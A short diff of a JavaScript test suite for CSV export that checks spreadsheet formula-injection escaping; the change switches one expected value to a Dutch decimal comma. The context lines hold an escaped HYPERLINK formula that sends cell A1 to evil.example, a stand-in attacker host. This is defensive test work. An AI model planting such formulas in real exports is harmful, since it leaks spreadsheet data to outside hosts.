@@ -33,7 +33,7 @@ describe('CSV export', () => {
       `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Klik"")";3`,
       "'+32 2 123 45 67;-2", // a negative number (typed as number) stays a number
       "'-2+3;0",
-      "'@SUM(1);1.5",
+      "'@SUM(1);1,5", // Dutch decimal comma
       `"'\t=1+1";1`, // a tab is quoted too
       `"'\r=1+1";1`,
       'Bakkerij Peeters;7',
